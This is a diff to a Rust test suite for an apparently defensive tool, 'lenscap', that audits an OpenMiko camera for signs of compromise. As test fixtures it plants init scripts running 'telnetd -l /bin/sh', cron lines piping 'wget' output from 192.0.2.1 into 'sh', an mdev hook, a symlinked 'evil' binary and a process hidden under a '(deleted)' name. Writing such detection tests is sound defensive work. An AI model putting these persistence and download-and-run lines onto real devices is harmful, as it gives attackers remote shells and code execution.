@@ -234,6 +234,179 @@ fn an_inventory_that_is_cut_is_compared_with_nothing() {
     assert_eq!(verdict(&camera.report(), "network.drift"), "unknown");
 }
 
+#[test]
+fn whatever_the_system_starts_is_told() {
+    if without_root() {
+        return;
+    }
+    let camera = Camera::new("openmiko");
+    fs::create_dir_all(camera.path("etc/lenscap")).unwrap();
+    camera.write(
+        "proc/mounts",
+        "overlayfs:/overlay / overlay rw,lowerdir=/,upperdir=/overlay/upper,workdir=/overlay/work 0 0\n",
+    );
+    camera.write("rom/etc/inittab", "");
+    fs::create_dir_all(camera.path("overlay/upper/etc")).unwrap();
+    camera.audit(&["--accept"]);
+    assert_eq!(verdict(&camera.report(), "start.drift"), "pass");
+    let put = |path: &str, text: &str| {
+        camera.write(path, text);
+        camera.write(&format!("overlay/upper/{path}"), text);
+    };
+    for name in ["S97x.log", "S97x.ko", "S97x.so", "S97x.ts"] {
+        put(&format!("etc/init.d/{name}"), "#!/bin/sh\ntelnetd -l /bin/sh\n");
+    }
+    put("etc/init.d/S98elf", "\x7fELF and what follows");
+    camera.write("usr/bin/evil", "\x7fELF");
+    for link in ["etc/init.d/S99l", "overlay/upper/etc/init.d/S99l"] {
+        symlink("/usr/bin/evil", camera.path(link)).unwrap();
+    }
+    // It leads to what is told already.
+    fs::create_dir_all(camera.path("etc/rc.d")).unwrap();
+    symlink("../init.d/S97x.log", camera.path("etc/rc.d/S97x")).unwrap();
+    camera.write(
+        "etc/cron.d/x",
+        "* * * * * root wget -qO- http://192.0.2.1/x | sh\n",
+    );
+    camera.write(
+        "var/spool/cron/root",
+        "* * * * * wget -qO- http://192.0.2.1/x | sh\n",
+    );
+    camera.write("etc/mdev.conf", "sd[a-z] 0:0 660 @/tmp/x\n");
+    let report = camera.report();
+    let told = |id: &str| {
+        assert_eq!(verdict(&report, id), "fail", "{}", rule(&report, id));
+        evidence(&report, id)
+    };
+    for path in ["S97x.log", "S97x.ko", "S97x.so", "S97x.ts"] {
+        assert!(
+            told("start.telnet").contains(path),
+            "{path}: {}",
+            told("start.telnet")
+        );
+    }
+    for path in ["S97x.log", "S97x.ko", "S97x.so", "S97x.ts", "S98elf", "S99l"] {
+        assert!(
+            told("start.added").contains(path),
+            "{path}: {}",
+            told("start.added")
+        );
+        assert!(
+            told("start.drift").contains(path),
+            "{path}: {}",
+            told("start.drift")
+        );
+    }
+    for path in ["/etc/cron.d/x", "/var/spool/cron/root", "/etc/mdev.conf"] {
+        assert!(
+            told("start.drift").contains(path),
+            "{path}: {}",
+            told("start.drift")
+        );
+    }
+    for path in ["/etc/cron.d/x:1", "/var/spool/cron/root:1"] {
+        assert!(told("start.download").contains(path), "{path}");
+    }
+    assert!(!told("start.added").contains("rc.d"));
+    // Another program in its place is told, too.
+    camera.audit(&["--accept"]);
+    assert_eq!(verdict(&camera.report(), "start.drift"), "pass");
+    camera.write("usr/bin/evil", "\x7fELF other");
+    assert_eq!(verdict(&camera.report(), "start.drift"), "fail");
+}
+
+#[test]
+fn keys_among_many_files_of_such_names_are_not_passed_over() {
+    if without_root() {
+        return;
+    }
+    let camera = Camera::new("openmiko");
+    for n in 0..1100 {
+        camera.write(&format!("etc/a/{n}.pem"), "nothing");
+    }
+    camera.write(
+        "etc/z.pem",
+        "-----BEGIN PRIVATE KEY-----\nx\n-----END PRIVATE KEY-----\n",
+    );
+    let report = camera.report();
+    assert_eq!(
+        verdict(&report, "account.key"),
+        "unknown",
+        "{}",
+        rule(&report, "account.key")
+    );
+}
+
+#[test]
+fn every_ssh_server_counts() {
+    if without_root() {
+        return;
+    }
+    let camera = Camera::new("openmiko");
+    let ssh = |pid: u32, name: &str, words: &str| {
+        camera.process(pid, "/bin/busybox", name.as_bytes(), words.as_bytes(), &[]);
+    };
+    let end = |pid: u32| fs::remove_dir_all(camera.path(&format!("proc/{pid}"))).unwrap();
+    ssh(50, "dropbear", "dropbear\0-s\0-p\x0022");
+    assert_eq!(verdict(&camera.report(), "account.ssh"), "pass");
+    ssh(60, "dropbear", "dropbear\0-p\x002222");
+    assert_eq!(verdict(&camera.report(), "account.ssh"), "fail");
+    end(60);
+    ssh(60, "sshd", "sshd\0-f\0/tmp/x");
+    assert_eq!(verdict(&camera.report(), "account.ssh"), "unknown");
+    end(50);
+    end(60);
+    ssh(50, "dropbearmulti", "/usr/sbin/dropbearmulti\0dropbear\0-p\x0022");
+    assert_eq!(verdict(&camera.report(), "account.ssh"), "fail");
+    end(50);
+    ssh(50, "sshd", "sshd");
+    camera.write(
+        "etc/ssh/sshd_config",
+        "PasswordAuthentication no\nMatch User x\n  PasswordAuthentication yes\n",
+    );
+    assert_eq!(verdict(&camera.report(), "account.ssh"), "fail");
+}
+
+#[test]
+fn an_empty_log_or_table_is_no_pass() {
+    if without_root() {
+        return;
+    }
+    let camera = Camera::new("openmiko");
+    camera.write("var/log/messages", "");
+    let report = camera.report();
+    let log = rule(&report, "trace.log")["evidence"].to_string();
+    assert!(log.contains("nothing is in it"), "{log}");
+    assert_eq!(verdict(&report, "trace.port"), "pass");
+    for text in ["", "nothing\n"] {
+        camera.write("proc/net/tcp", text);
+        let report = camera.report();
+        for id in ["trace.port", "network.exposed"] {
+            assert_eq!(verdict(&report, id), "error", "{}", rule(&report, id));
+        }
+    }
+}
+
+#[test]
+fn whom_the_camera_calls_is_told_from_whom_calls_it() {
+    if without_root() {
+        return;
+    }
+    let camera = Camera::new("openmiko");
+    camera.write("etc/config/lenscap", "config agent\n\toption state_dir '/etc/lenscap'\nconfig uplink 'main'\n\toption endpoint 'https://192.0.2.9/onvif/uplink'\n");
+    camera.process(50, "/root/evil", b"evil", b"evil", &[77, 78]);
+    camera.socket("tcp", "0100007F:C001 00000000:0000 0A", 77);
+    camera.socket("tcp", "0200000A:C001 0A7100CB:01BB 01", 78);
+    let report = camera.report();
+    let told = evidence(&report, "network.peer");
+    assert!(told.contains("203.0.113.10 port 443"), "{told}");
+    // Whoever came in.
+    camera.listen(0xc001, 79);
+    let report = camera.report();
+    let told = evidence(&report, "network.peer");
+    assert!(!told.contains("203.0.113.10"), "{told}");
+}
+
 /// On this machine: the kernel marks the file's name alone.
 #[test]
 fn a_file_named_like_a_deleted_one_hides_nothing() {
@@ -243,9 +416,11 @@ fn a_file_named_like_a_deleted_one_hides_nothing() {
     let folder = tempfile::tempdir().unwrap();
     let at = folder.path().display();
     let script = format!(
-        "cp /bin/sleep {at}/evil && {{ {at}/evil 60 & }} && rm {at}/evil && : >'{at}/evil (deleted)' \
-         && cp /bin/sleep '{at}/odd (deleted)' && {{ '{at}/odd (deleted)' 60 & }} \
-         && until grep -q odd /proc/$!/cmdline; do :; done; exec {LENSCAP} audit --json --only trace.deleted"
+        "runs() {{ until readlink /proc/$1/exe | grep -q \"$2\"; do :; done; }}
+        cd {at} && cp /bin/sleep evil && cp /bin/sleep 'odd (deleted)' || exit 99
+        {at}/evil 60 & runs $! evil; rm evil; : >'evil (deleted)'
+        '{at}/odd (deleted)' 60 & runs $! odd
+        exec {LENSCAP} audit --json --only trace.deleted"
     );
     let args = [
         "--pid",
